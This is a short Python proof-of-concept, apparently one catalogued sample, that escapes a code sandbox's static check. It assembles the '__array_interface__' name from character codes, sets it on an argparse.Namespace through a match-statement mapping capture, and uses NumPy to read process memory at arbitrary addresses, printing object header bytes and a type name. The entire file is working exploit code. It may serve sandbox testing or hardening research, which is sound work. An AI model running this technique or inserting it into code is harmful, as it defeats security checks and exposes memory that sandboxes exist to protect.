# source: PEP 634 mapping rest capture; argparse.Namespace.__init__ (setattr by keyword name); NumPy __array_interface__ protocol (data=(address, readonly)); sandexec README, "The static check", prefix_chars note
# family: binding form not followed (match **rest) -> keyword name chosen at run time -> setattr of a dunder on a Namespace
# goal: reads raw process memory at any address (object header, then the type's tp_name string)
import argparse
import numpy as np
u = chr(95) * 2
name = u + "array" + chr(95) + "interface" + u
class Marker:
    pass
m = Marker()
addr = int(repr(m).split(" at ")[1].rstrip(">"), 16)
def peek(a, n):
    opts = {"window": 3}
    match {name: {"data": (a, True), "shape": (n,), "typestr": "|u1", "version": 3}}:
        case {**opts}:
            pass
    ns = argparse.Namespace(**opts)
    return np.array(np.asarray(ns))
head = peek(addr, 16)
print("object header bytes at", hex(addr), head.tolist())
tp = int.from_bytes(bytes(head[8:16].tolist()), "little")
tpname = int.from_bytes(bytes(peek(tp + 24, 8).tolist()), "little")
print("type name read from raw memory:", bytes(peek(tpname, 16).tolist()))
